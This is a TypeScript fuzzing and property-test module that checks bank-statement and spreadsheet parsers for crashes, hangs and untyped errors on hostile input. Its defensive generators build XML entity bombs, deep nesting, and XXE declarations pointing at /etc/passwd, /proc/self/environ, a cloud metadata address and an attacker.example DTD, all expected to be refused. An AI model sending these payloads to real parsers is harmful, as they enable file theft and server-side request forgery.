/**
 * Parsers under attack: the properties every parser must hold on hostile input, shared by the bounded
 * suite (lib/formats/attack.test.ts) and the long run (`npm run fuzz`, test/reliability/fuzz.ts).
 *
 * Every input goes in the way an upload does (lib/ingest/stage.ts): the head peeked, the format
 * detected from content, delimited text scanned whole first, then parsed — or with one format forced, as
 * a user may. The outcome must be events that fit the canonical schemas (meta exactly once, last; every
 * rejected row after an error issue on its line), or a FormatError with a code and a line. Anything else
 * — an untyped error, a crash, a parse that never ends — fails the property. No assertion on speed: a
 * parse that has not ended after HANG_MS (far beyond any real parse of these small inputs) is a hang.
 *
 * Kept free of vitest so the long run needs no test runner: a failed check throws an Error.
 */
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { scanDelimited } from "@/lib/formats/csv/index";
import { detectFormat, formats, parseFile } from "@/lib/formats/index";
import { peekBytes } from "@/lib/formats/shared/text";
import { FormatError, type ParseEvent } from "@/lib/formats/types";
import { makeXlsx, type TestCell } from "@/lib/formats/xlsx/make-xlsx";
import { balance, datasetRecord, parseIssue, statementInfo, transaction, type FormatName } from "@/lib/schemas/canonical";

export const HANG_MS = 20_000;

const FORMAT_NAMES = Object.keys(formats) as FormatName[];

// ---- running one input ----

export type AttackOutcome = { ok: true; events: number; format: string } | { ok: false; code: string; line: number };

function fail(what: string): never {
  throw new Error(what);
}

function checkSchema(schema: { safeParse(v: unknown): { success: boolean; error?: unknown } }, value: unknown, what: string): void {
  const result = schema.safeParse(value);
  if (!result.success) fail(`${what} does not fit the canonical schema: ${JSON.stringify(value).slice(0, 300)} — ${String(result.error).slice(0, 300)}`);
}

function* chunksOf(bytes: Uint8Array, size: number): Generator<Uint8Array> {
  if (bytes.length === 0) return;
  for (let i = 0; i < bytes.length; i += size) yield bytes.subarray(i, i + size);
}

async function drain(input: Uint8Array, chunk: number, forced: FormatName | undefined): Promise<AttackOutcome> {
  let events = 0;
  let metaSeen = false;
  let format = "";
  const errorLines = new Set<number>();
  try {
    // As staging reads an upload: peek, detect, scan delimited text whole, then parse.
    const { head, source } = await peekBytes(chunksOf(input, chunk));
    const name = forced ?? detectFormat(head).format ?? undefined;
    const profile = name === "csv" ? await scanDelimited(source, {}) : undefined;
    const replay = profile ? chunksOf(input, chunk) : source;
    for await (const event of parseFile(replay, { ...(name ? { format: name } : {}), ...(profile ? { profile } : {}) })) {
      events++;
      if (metaSeen) fail(`an event after meta: ${event.type}`);
      checkEvent(event, errorLines);
      if (event.type === "meta") {
        metaSeen = true;
        format = event.meta.format;
      }
    }
  } catch (error) {
    if (!(error instanceof FormatError)) throw error;
    if (!/^[a-z0-9_]+$/.test(error.code)) fail(`FormatError code ${JSON.stringify(error.code)}`);
    if (!Number.isInteger(error.line) || error.line < 1) fail(`FormatError ${error.code} has line ${error.line}`);
    if (error.message.trim() === "") fail(`FormatError ${error.code} has no message`);
    return { ok: false, code: error.code, line: error.line };
  }
  if (!metaSeen) fail("a parse that ended without its meta event");
  return { ok: true, events, format };
}

function checkEvent(event: ParseEvent, errorLines: Set<number>): void {
  switch (event.type) {
    case "statement":
      return checkSchema(statementInfo, event.statement, "statement");
    case "balance":
      return checkSchema(balance, event.balance, "balance");
    case "transaction":
      return checkSchema(transaction, event.transaction, "transaction");
    case "record":
      return checkSchema(datasetRecord, event.record, "record");
    case "issue":
      checkSchema(parseIssue, event.issue, "issue");
      if (event.issue.line < 1) fail(`issue ${event.issue.code} on line ${event.issue.line}`);
      if (event.issue.severity === "error") errorLines.add(event.issue.line);
      return;
    case "rejected": {
      const r = event.rejected;
      if (!Number.isInteger(r.line) || r.line < 1) fail(`rejected row on line ${r.line}`);
      if (!errorLines.has(r.line)) fail(`rejected row on line ${r.line} follows no error issue on its line`);
      if (r.raw === "") fail(`rejected row on line ${r.line} has no raw text`);
      for (const value of Object.values(r.fields)) if (typeof value !== "string") fail(`rejected row field is ${typeof value}`);
      return;
    }
    case "meta":
      if (!Number.isInteger(event.meta.lines) || event.meta.lines < 0) fail(`meta.lines ${event.meta.lines}`);
      return;
  }
}

/** Told of every case, for the long run's figures and its hang watchdog. */
export const observer: { start?: (bytes: number) => void; end?: (outcome: AttackOutcome) => void } = {};

/** One input through detection (or a forced format), in chunks of `chunk` bytes, with the hang guard. */
export async function attack(input: Uint8Array, chunk: number, forced?: FormatName): Promise<AttackOutcome> {
  observer.start?.(input.length);
  let timer: NodeJS.Timeout | undefined;
  const hang = new Promise<never>((_, reject) => {
    timer = setTimeout(() => reject(new Error(`no outcome after ${HANG_MS} ms (${forced ?? "detected"}, ${input.length} bytes)`)), HANG_MS);
  });
  try {
    const outcome = await Promise.race([drain(input, Math.max(1, chunk), forced), hang]);
    observer.end?.(outcome);
    return outcome;
  } finally {
    clearTimeout(timer);
  }
}

// ---- inputs ----

const utf8 = (text: string) => new TextEncoder().encode(text);

function samples(): { path: string; bytes: Uint8Array }[] {
  const roots = ["test/fixtures/samples", "lib/formats/qif/__fixtures__"];
  const files: string[] = [];
  for (const root of roots) {
    for (const entry of readdirSync(root, { withFileTypes: true })) {
      if (entry.isDirectory()) for (const file of readdirSync(join(root, entry.name))) files.push(join(root, entry.name, file));
      else if (!entry.name.endsWith(".md")) files.push(join(root, entry.name));
    }
  }
  const out: { path: string; bytes: Uint8Array }[] = files.map((path) => ({ path, bytes: new Uint8Array(readFileSync(path)) }));
  out.push({ path: "generated.xlsx", bytes: makeXlsx([["Date", "Description", "Amount"], [{ date: 45000 }, "Coffee", -3.5], [{ date: 45001 }, "Salary", 1000]]) });
  return out;
}

/** Tokens that matter to some format: inserting them where they do not belong is the likeliest way in. */
const TOKENS = [
  ...["<", ">", "</", "/>", "<![CDATA[", "]]>", "<!--", "-->", "<?xml?>", "&amp;", "&", "&#0;", "&#x110000;", "&lt;", "<!DOCTYPE x>", '<!ENTITY a "b">', "<OFX>", "</OFX>", "<STMTTRN>", "</STMTTRN>", "<TRNAMT>", "<DTPOSTED>", "<Ntry>", "</Ntry>", '<Amt Ccy="EUR">', "</Amt>", "<Bal>"],
  ...[":20:", ":25:", ":28C:", ":60F:", ":61:", ":86:", ":62F:", ":62M:", "-}", "{4:", "01,", "02,", "03,", "16,", "88,", "49,", "98,", "99,", "/", "!Type:Bank", "^", "D", "T", "\r\n", "\n", "\r", "\u0000", "\ufeff", "\ufffd"],
  ...[",", ";", "\t", "|", '"', '""', "'", "=HYPERLINK(\"x\")", "1e309", "NaN", "-0", "9".repeat(30), "2025-02-30", "13/13/2025", "31.12.9999", "(12.00)", "12-", "−5", "1.234,56", "1,234.56", "€", "KES", "PK\u0003\u0004"],
];

const bytesOf = (token: string) => utf8(token);

type Mutation = { kind: "overwrite" | "insert" | "delete" | "duplicate" | "truncate"; at: number; length: number; data: Uint8Array };

const mutation: fc.Arbitrary<Mutation> = fc.record({
  kind: fc.constantFrom("overwrite", "insert", "delete", "duplicate", "truncate"),
  at: fc.nat(),
  length: fc.integer({ min: 1, max: 64 }),
  data: fc.oneof(fc.uint8Array({ minLength: 1, maxLength: 8 }), fc.constantFrom(...TOKENS).map(bytesOf)),
});

function mutate(input: Uint8Array, mutations: readonly Mutation[]): Uint8Array {
  let bytes = input;
  for (const m of mutations) {
    const at = bytes.length === 0 ? 0 : m.at % (bytes.length + 1);
    const end = Math.min(bytes.length, at + m.length);
    switch (m.kind) {
      case "overwrite": {
        const copy = new Uint8Array(bytes);
        copy.set(m.data.subarray(0, Math.max(0, copy.length - at)), at);
        bytes = copy;
        break;
      }
      case "insert":
        bytes = concat(bytes.subarray(0, at), m.data, bytes.subarray(at));
        break;
      case "delete":
        bytes = concat(bytes.subarray(0, at), bytes.subarray(end));
        break;
      case "duplicate":
        bytes = concat(bytes.subarray(0, end), bytes.subarray(at, end), bytes.subarray(end));
        break;
      case "truncate":
        bytes = bytes.subarray(0, at);
        break;
    }
  }
  return bytes;
}

function concat(...parts: Uint8Array[]): Uint8Array {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let offset = 0;
  for (const p of parts) {
    out.set(p, offset);
    offset += p.length;
  }
  return out;
}

/** Text in one of the encodings uploads arrive in. */
const encoded = (text: fc.Arbitrary<string>): fc.Arbitrary<Uint8Array> =>
  fc.tuple(text, fc.constantFrom("utf-8", "utf-8-bom", "utf-16le-bom", "utf-16be-bom", "utf-16le", "latin1")).map(([t, encoding]) => {
    switch (encoding) {
      case "utf-8":
        return utf8(t);
      case "utf-8-bom":
        return utf8("\ufeff" + t);
      case "utf-16le-bom":
        return new Uint8Array(Buffer.from("\ufeff" + t, "utf16le"));
      case "utf-16be-bom":
        return new Uint8Array(Buffer.from("\ufeff" + t, "utf16le").swap16());
      case "utf-16le":
        return new Uint8Array(Buffer.from(t, "utf16le"));
      default:
        return new Uint8Array(Buffer.from(t, "latin1"));
    }
  });

// ---- grammar-ish generators: documents shaped like each format, with values that are not ----

const word = fc.string({ unit: fc.constantFrom(..."abcXYZ019 -_/.,;:'\"&<>é€\t".split("")), maxLength: 12 });
const dateText = fc.oneof(
  fc.tuple(fc.integer({ min: 0, max: 9999 }), fc.integer({ min: 0, max: 13 }), fc.integer({ min: 0, max: 32 })).map(([y, m, d]) => `${y}-${String(m).padStart(2, "0")}-${String(d).padStart(2, "0")}`),
  fc.tuple(fc.integer({ min: 0, max: 32 }), fc.integer({ min: 0, max: 13 }), fc.integer({ min: 0, max: 2100 })).map(([d, m, y]) => `${d}/${m}/${y}`),
  fc.tuple(fc.integer({ min: 0, max: 32 }), fc.integer({ min: 0, max: 13 }), fc.integer({ min: 0, max: 99 })).map(([d, m, y]) => `${d}.${m}.${y}`),
  fc.constantFrom("2025-02-30", "13/13/2025", "", "yesterday", "20250101", "250101", "2025-01-01T25:61:00Z"),
);
const amountText = fc.oneof(
  fc.tuple(fc.bigInt({ min: -(10n ** 25n), max: 10n ** 25n }), fc.nat({ max: 9999 })).map(([w, f]) => `${w}.${f}`),
  fc.constantFrom("1e309", "NaN", "Infinity", "-0", "0.00", "(12.00)", "12-", "−5", "1.234,56", "1,234.56", "$1,000", "KES 5", "", "--1", "1.2.3", "9".repeat(30)),
  word,
);
const cell = fc.oneof(dateText, amountText, word, fc.constantFrom('"quoted, with comma"', '"un"closed', "=HYPERLINK(\"http://x\")", "@SUM(A1)", "\ufeff", "line\nbreak"));

const delimitedDoc = fc
  .record({
    header: fc.array(fc.oneof(fc.constantFrom("Date", "Booking Date", "Datum", "Amount", "Betrag", "Debit", "Credit", "Description", "Memo", "Balance", "Currency", "Reference", "Receipt No.", "Completion Time", "Details", "Paid In", "Withdrawn", "Item", "Quantity", "Price", "Total", "Payment Method", "account_code", "balance", "_id", "saleAmount"), word), { minLength: 1, maxLength: 8 }),
    rows: fc.array(fc.array(cell, { maxLength: 9 }), { maxLength: 12 }),
    delimiter: fc.constantFrom(",", ";", "\t", "|"),
    newline: fc.constantFrom("\n", "\r\n", "\r"),
  })
  .map(({ header, rows, delimiter, newline }) => [header, ...rows].map((r) => r.join(delimiter)).join(newline) + newline);

interface XmlNode {
  name: string;
  attrs: string;
  children: (XmlNode | string)[];
}
const xmlTree = (names: readonly string[], value: fc.Arbitrary<string>): fc.Arbitrary<XmlNode> =>
  fc.letrec<{ node: XmlNode; child: XmlNode | string }>((tie) => ({
    node: fc.record({
      name: fc.constantFrom(...names),
      attrs: fc.constantFrom("", "", "", ' Ccy="EUR"', ' Ccy="XXX"', ' Ccy=""', ' xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"'),
      children: fc.array(tie("child"), { maxLength: 4 }),
    }),
    child: fc.oneof({ depthSize: "small", withCrossShrink: true }, value, tie("node")),
  })).node;

const render = (node: XmlNode | string, closeLeaves: boolean, closeAggregates: boolean): string => {
  if (typeof node === "string") return node;
  const inner = node.children.map((c) => render(c, closeLeaves, closeAggregates)).join("");
  const leaf = node.children.every((c) => typeof c === "string");
  return `<${node.name}${node.attrs}>${inner}${(leaf ? closeLeaves : closeAggregates) ? `</${node.name}>` : ""}`;
};

const CAMT_NAMES = ["Document", "BkToCstmrStmt", "BkToCstmrAcctRpt", "Stmt", "Rpt", "Id", "Acct", "IBAN", "Ccy", "Bal", "Tp", "CdOrPrtry", "Cd", "Amt", "CdtDbtInd", "Dt", "DtTm", "Ntry", "NtryRef", "Sts", "BookgDt", "ValDt", "AcctSvcrRef", "NtryDtls", "TxDtls", "Refs", "EndToEndId", "RmtInf", "Ustrd", "RltdPties", "Cdtr", "Dbtr", "Nm", "TxsSummry", "TtlNtries", "NbOfNtries", "Sum", "GrpHdr", "MsgId", "CreDtTm"];
// Well-formed: malformed XML is the mutation properties' part; this one reaches the camt reader itself.
const camtValue = fc.oneof(dateText, amountText, fc.constantFrom("CRDT", "DBIT", "BOOK", "PDNG", "OPBD", "CLBD", "EUR", "&amp;", "&lt;", "<![CDATA[x]]>"), word.map((w) => w.replace(/[<&]/g, "")));
/** A statement's frame around random content, so most documents get past "is this camt" into the entries. */
const camtDoc = fc
  .tuple(fc.array(xmlTree(CAMT_NAMES, camtValue), { maxLength: 6 }), fc.constantFrom("camt.053.001.02", "camt.053.001.08", "camt.052.001.02"), fc.boolean())
  .map(
    ([nodes, version, framed]) =>
      `<?xml version="1.0" encoding="UTF-8"?>\n<Document xmlns="urn:iso:std:iso:20022:tech:xsd:${version}">` +
      (framed
        ? `<BkToCstmrStmt><GrpHdr><MsgId>M</MsgId><CreDtTm>2025-01-01T00:00:00</CreDtTm></GrpHdr><Stmt><Id>S</Id><Acct><Id><IBAN>DE89370400440532013000</IBAN></Id><Ccy>EUR</Ccy></Acct>${nodes.map((n) => render(n, true, true)).join("\n")}</Stmt></BkToCstmrStmt>`
        : nodes.map((n) => render(n, true, true)).join("")) +
      "</Document>\n",
  );

const OFX_NAMES = ["OFX", "SIGNONMSGSRSV1", "SONRS", "STATUS", "CODE", "SEVERITY", "BANKMSGSRSV1", "STMTTRNRS", "STMTRS", "CREDITCARDMSGSRSV1", "CCSTMTRS", "CURDEF", "BANKACCTFROM", "BANKID", "ACCTID", "ACCTTYPE", "BANKTRANLIST", "DTSTART", "DTEND", "STMTTRN", "TRNTYPE", "DTPOSTED", "TRNAMT", "FITID", "NAME", "MEMO", "LEDGERBAL", "AVAILBAL", "BALAMT", "DTASOF", "INVSTMTRS", "SCRIPT"];
const ofxValue = fc.oneof(dateText.map((d) => d.replace(/\D/g, "")), amountText, fc.constantFrom("20250101120000.000[-5:EST]", "CHECKING", "DEBIT", "USD", "&lt;script&gt;", "&amp;", "&#0;"), word.map((w) => w.replace(/[<&]/g, "")));
const ofxDoc = fc
  .tuple(xmlTree(OFX_NAMES, ofxValue), fc.boolean(), fc.boolean())
  .map(([tree, xml, closeLeaves]) =>
    xml
      ? `<?xml version="1.0"?>\n<?OFX OFXHEADER="200" VERSION="220"?>\n<OFX>${render(tree, true, true)}</OFX>\n`
      : `OFXHEADER:100\nDATA:OFXSGML\nVERSION:102\n\n<OFX>${render(tree, closeLeaves, true)}</OFX>\n`,
  );

const mt940Line = fc.oneof(
  fc.tuple(fc.constantFrom(":20:", ":21:", ":25:", ":28C:", ":86:", ":34F:", ":90D:", ":90C:"), word).map(([t, v]) => t + v),
  fc.tuple(fc.constantFrom(":60F:", ":60M:", ":62F:", ":62M:", ":64:", ":65:"), fc.constantFrom("C", "D", "X", ""), fc.constantFrom("250101", "250230", "991399", "2501"), fc.constantFrom("EUR", "XXX", "E"), amountText).map((p) => p.join("")),
  fc.tuple(fc.constantFrom("250101", "250230", "2501010101", "999999"), fc.constantFrom("C", "D", "RC", "RD", "X"), amountText, fc.constantFrom("NTRF", "NMSC", "", "N"), word).map((p) => ":61:" + p.join("")),
  fc.constantFrom("-", "-}", "{1:F01BANK}{2:I940}{4:", "?20text?30", "/NAME/x/", ""),
  word,
);
const mt940Doc = fc.tuple(fc.array(mt940Line, { maxLength: 30 }), fc.constantFrom("\n", "\r\n")).map(([lines, nl]) => lines.join(nl) + nl);

const bai2Field = fc.oneof(fc.nat({ max: 99999999 }).map(String), amountText, word.map((w) => w.replace(/[,/]/g, "")), fc.constant(""));
/** Fields shaped like each record type's, mostly; sometimes anything. */
const yymmdd = fc.oneof({ arbitrary: fc.constantFrom("250101", "251231", "240229"), weight: 6 }, { arbitrary: fc.constantFrom("250230", "991399", "2501", ""), weight: 1 });
const bai2Word = fc.oneof({ arbitrary: fc.string({ unit: fc.constantFrom(..."ABC0129 -.".split("")), minLength: 1, maxLength: 10 }), weight: 6 }, { arbitrary: word, weight: 1 });
const bai2Amount = fc.oneof(fc.nat({ max: 10_000_000 }).map(String), fc.constantFrom("", "-5", "+5", "1.5", "9".repeat(30)));
const BAI2_FIELDS: Record<string, fc.Arbitrary<string[]>> = {
  "01": fc.tuple(bai2Word, bai2Word, yymmdd, fc.constantFrom("1200", "2400", "9999"), fc.constantFrom("1", "2"), fc.constant(""), fc.constant(""), fc.constantFrom("2", "3")).map((f) => [...f]),
  "02": fc.tuple(bai2Word, bai2Word, fc.constantFrom("1", "2", "3", "4"), yymmdd, fc.constantFrom("0000", "2400", ""), fc.constantFrom("USD", "CAD", "", "XX"), fc.constantFrom("2", "")).map((f) => [...f]),
  "03": fc.tuple(fc.nat({ max: 99999999 }).map(String), fc.constantFrom("USD", "CAD", ""), fc.array(fc.tuple(fc.constantFrom("010", "015", "040", "100", "400", "999", "abc"), bai2Amount, fc.constantFrom("", "1", "2"), fc.constantFrom("", "Z", "0", "V", "D")), { maxLength: 3 })).map(([acct, ccy, summaries]) => [acct, ccy, ...summaries.flat()]),
  "16": fc.tuple(fc.constantFrom("195", "475", "699", "108", "000", "1000", ""), bai2Amount, fc.constantFrom("Z", "0", "1", "2", "V", "S", "D", "", "Q"), bai2Word, bai2Word, word).map((f) => [...f]),
  "88": fc.array(word, { maxLength: 3 }),
  "49": fc.tuple(bai2Amount, fc.nat({ max: 40 }).map(String)).map((f) => [...f]),
  "98": fc.tuple(bai2Amount, fc.nat({ max: 5 }).map(String), fc.nat({ max: 40 }).map(String)).map((f) => [...f]),
  "99": fc.tuple(bai2Amount, fc.nat({ max: 5 }).map(String), fc.nat({ max: 40 }).map(String)).map((f) => [...f]),
};
/** A file's record skeleton (01 02 03 16/88… 49 98 99) with shaped fields, records dropped or repeated. */
const bai2Record = (code: string) =>
  fc.tuple(fc.constant(code), fc.oneof({ arbitrary: BAI2_FIELDS[code] ?? fc.array(bai2Field, { maxLength: 8 }), weight: 4 }, { arbitrary: fc.array(bai2Field, { maxLength: 8 }), weight: 1 }), fc.constantFrom("/", "/", ""));
const bai2Doc = fc
  .tuple(
    bai2Record("01"),
    bai2Record("02"),
    bai2Record("03"),
    fc.array(fc.oneof(bai2Record("16"), bai2Record("88"), bai2Record("03"), bai2Record("49"), bai2Record("X")), { maxLength: 16 }),
    bai2Record("49"),
    bai2Record("98"),
    bai2Record("99"),
    fc.array(fc.nat(), { maxLength: 2 }),
  )
  .map(([h, g, a, body, at, gt, ft, drops]) => {
    const records = [h, g, a, ...body, at, gt, ft];
    for (const d of drops) records.splice(d % records.length, 1);
    return records.map(([code, fields, end]) => [code, ...fields].join(",") + end).join("\n") + "\n";
  });

const qifDoc = fc
  .array(fc.oneof(fc.constantFrom("!Type:Bank", "!Type:CCard", "!Type:Invst", "!Account", "!Option:AutoSwitch", "^"), fc.tuple(fc.constantFrom("D", "T", "U", "P", "M", "N", "L", "C", "S", "$", "E", "X"), fc.oneof(dateText, amountText, word)).map(([c, v]) => c + v)), { maxLength: 30 })
  .map((lines) => lines.join("\n") + "\n");

const xlsxCell: fc.Arbitrary<TestCell> = fc.oneof(word, dateText, amountText, fc.double({ noNaN: false }), fc.boolean(), fc.constant(null), fc.integer({ min: -1000, max: 100000 }).map((d) => ({ date: d })));
const xlsxDoc = fc
  .tuple(fc.array(fc.constantFrom("Date", "Description", "Amount", "Debit", "Credit", "Balance", "Item", "Total"), { minLength: 1, maxLength: 6 }), fc.array(fc.array(xlsxCell, { maxLength: 7 }), { maxLength: 10 }))
  .map(([header, rows]) => makeXlsx([header, ...rows]));

// ---- hostile XML: must be refused, with the format's own code ----

/** "Billion laughs" with `levels` of entities each `width` references wide. */
export function entityBomb(levels: number, width: number): string {
  const entities = [' <!ENTITY lol0 "lol">'];
  for (let i = 1; i <= levels; i++) entities.push(` <!ENTITY lol${i} "${`&lol${i - 1};`.repeat(width)}">`);
  return `<!DOCTYPE lolz [\n${entities.join("\n")}\n]>`;
}

export interface HostileXml {
  kind: "bomb" | "external" | "deep";
  format: "camt053" | "ofx-xml" | "ofx-sgml";
  text: string;
  expected: string;
}

const camtPrefix = '<?xml version="1.0" encoding="UTF-8"?>\n';
const camtOpen = '<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"><BkToCstmrStmt>';
const ofxXmlPrefix = '<?xml version="1.0" encoding="UTF-8"?>\n<?OFX OFXHEADER="200" VERSION="220"?>\n';
const ofxSgmlPrefix = "OFXHEADER:100\nDATA:OFXSGML\nVERSION:102\n\n";

export const hostileXml: fc.Arbitrary<HostileXml> = fc.oneof(
  fc.record({ format: fc.constantFrom("camt053", "ofx-xml", "ofx-sgml" as const), levels: fc.integer({ min: 1, max: 12 }), width: fc.integer({ min: 2, max: 12 }) }).map(({ format, levels, width }) => {
    const bomb = entityBomb(levels, width);
    const ref = `&lol${levels};`;
    const text =
      format === "camt053" ? `${camtPrefix}${bomb}\n${camtOpen}${ref}</BkToCstmrStmt></Document>` : format === "ofx-xml" ? `${ofxXmlPrefix}${bomb}\n<OFX>${ref}</OFX>` : `${ofxSgmlPrefix}${bomb}\n<OFX><MEMO>${ref}</OFX>`;
    return { kind: "bomb" as const, format, text, expected: format === "camt053" ? "xml_doctype_forbidden" : "ofx_declaration_refused" };
  }),
  fc.record({ format: fc.constantFrom("camt053", "ofx-xml", "ofx-sgml" as const), target: fc.constantFrom("file:///etc/passwd", "http://169.254.169.254/latest/meta-data/", "file:///proc/self/environ", "https://attacker.example/x.dtd"), parameter: fc.boolean() }).map(({ format, target, parameter }) => {
    const declaration = parameter ? `<!DOCTYPE x [<!ENTITY % ext SYSTEM "${target}"> %ext;]>` : `<!DOCTYPE x [<!ENTITY xxe SYSTEM "${target}">]>`;
    const ref = parameter ? "" : "&xxe;";
    const text =
      format === "camt053" ? `${camtPrefix}${declaration}\n${camtOpen}<GrpHdr><MsgId>${ref}</MsgId></GrpHdr></BkToCstmrStmt></Document>` : format === "ofx-xml" ? `${ofxXmlPrefix}${declaration}\n<OFX><MEMO>${ref}</MEMO></OFX>` : `${ofxSgmlPrefix}${declaration}\n<OFX><MEMO>${ref}</OFX>`;
    return { kind: "external" as const, format, text, expected: format === "camt053" ? "xml_doctype_forbidden" : "ofx_declaration_refused" };
  }),
  fc.record({ format: fc.constantFrom("camt053", "ofx-xml", "ofx-sgml" as const), depth: fc.integer({ min: 65, max: 5000 }), names: fc.array(fc.constantFrom("A", "Ntry", "X1", "STMTTRN", "BANKTRANLIST"), { minLength: 1, maxLength: 4 }), newlines: fc.boolean() }).map(({ format, depth, names, newlines }) => {
    const nl = newlines ? "\n" : "";
    const opens = Array.from({ length: depth }, (_, i) => `<${names[i % names.length]}>${nl}`).join("");
    const closes = Array.from({ length: depth }, (_, i) => `</${names[(depth - 1 - i) % names.length]}>`).join("");
    const text =
      format === "camt053" ? `${camtPrefix}${camtOpen}${opens}${closes}</BkToCstmrStmt></Document>` : format === "ofx-xml" ? `${ofxXmlPrefix}<OFX>${opens}${closes}</OFX>` : `${ofxSgmlPrefix}<OFX>${opens}</OFX>`;
    return { kind: "deep" as const, format, text, expected: format === "camt053" ? "xml_too_deep" : "ofx_too_deep" };
  }),
);

/** A hostile document refused with its code, through detection and in any chunking. */
export async function checkHostile(h: HostileXml, chunk: number): Promise<void> {
  const outcome = await attack(utf8(h.text), chunk);
  if (outcome.ok) fail(`${h.kind} in ${h.format} was parsed (${outcome.events} events as ${outcome.format}) instead of refused`);
  if (outcome.code !== h.expected) fail(`${h.kind} in ${h.format} was refused with ${outcome.code}, expected ${h.expected}`);
}

// ---- the properties ----

export interface AttackScale {
  /** Largest random input, in bytes. */
  maxBytes: number;
  /** How fast-check spreads lengths up to the maximum. */
  size: fc.SizeForArbitrary;
  /** Most mutations applied to one sample. */
  maxMutations: number;
}

export const CI_SCALE: AttackScale = { maxBytes: 2048, size: "small", maxMutations: 6 };
export const LONG_SCALE: AttackScale = { maxBytes: 64 * 1024, size: "large", maxMutations: 24 };

const chunkSize = fc.oneof(fc.constant(1 << 20), fc.integer({ min: 1, max: 97 }), fc.integer({ min: 1, max: 70_000 }));
const forcedFormat = fc.option(fc.constantFrom(...FORMAT_NAMES), { nil: undefined, freq: 3 });

export interface AttackProperty {
  name: string;
  /** Runs in the bounded suite (the long run goes on until its time is up). */
  ciRuns: number;
  property: fc.IAsyncProperty<unknown[]>;
}

/** Each property as a fast-check async property over its own arbitraries. */
export function attackProperties(scale: AttackScale): AttackProperty[] {
  const all = samples();
  // The outcome itself is not the verdict (a refusal is a fine outcome): only a thrown error fails.
  const prop = <T>(arbitrary: fc.Arbitrary<T>, check: (value: T) => Promise<unknown>) =>
    fc.asyncProperty(arbitrary, async (value) => {
      await check(value);
    }) as unknown as fc.IAsyncProperty<unknown[]>;
  return [
    { name: "random bytes", ciRuns: 150, property: prop(fc.tuple(fc.uint8Array({ maxLength: scale.maxBytes, size: scale.size }), chunkSize, forcedFormat), ([b, c, f]) => attack(b, c, f)) },
    { name: "random text in upload encodings", ciRuns: 100, property: prop(fc.tuple(encoded(fc.string({ unit: "grapheme", maxLength: scale.maxBytes / 4, size: scale.size })), chunkSize, forcedFormat), ([b, c, f]) => attack(b, c, f)) },
    {
      name: "mutated samples",
      ciRuns: 200,
      property: prop(fc.tuple(fc.nat({ max: all.length - 1 }), fc.array(mutation, { minLength: 1, maxLength: scale.maxMutations, size: scale.size }), chunkSize, forcedFormat), ([i, m, c, f]) => attack(mutate(all[i]!.bytes, m), c, f)),
    },
    { name: "delimited-text documents", ciRuns: 80, property: prop(fc.tuple(encoded(delimitedDoc), chunkSize), ([b, c]) => attack(b, c)) },
    { name: "camt.053 documents", ciRuns: 60, property: prop(fc.tuple(camtDoc, chunkSize), ([t, c]) => attack(utf8(t), c)) },
    { name: "OFX documents (SGML and XML)", ciRuns: 60, property: prop(fc.tuple(ofxDoc, chunkSize), ([t, c]) => attack(utf8(t), c)) },
    { name: "MT940 documents", ciRuns: 60, property: prop(fc.tuple(mt940Doc, chunkSize), ([t, c]) => attack(utf8(t), c)) },
    { name: "BAI2 documents", ciRuns: 60, property: prop(fc.tuple(bai2Doc, chunkSize), ([t, c]) => attack(utf8(t), c)) },
    { name: "QIF documents", ciRuns: 60, property: prop(fc.tuple(qifDoc, chunkSize), ([t, c]) => attack(utf8(t), c)) },
    { name: "XLSX workbooks", ciRuns: 40, property: prop(fc.tuple(xlsxDoc, fc.array(mutation, { maxLength: 2 }), chunkSize), ([b, m, c]) => attack(mutate(b, m), c)) },
    { name: "XML bombs, external entities, deep nesting refused (camt.053, OFX XML and SGML)", ciRuns: 60, property: prop(fc.tuple(hostileXml, chunkSize), ([h, c]) => checkHostile(h, c)) },
  ];
}
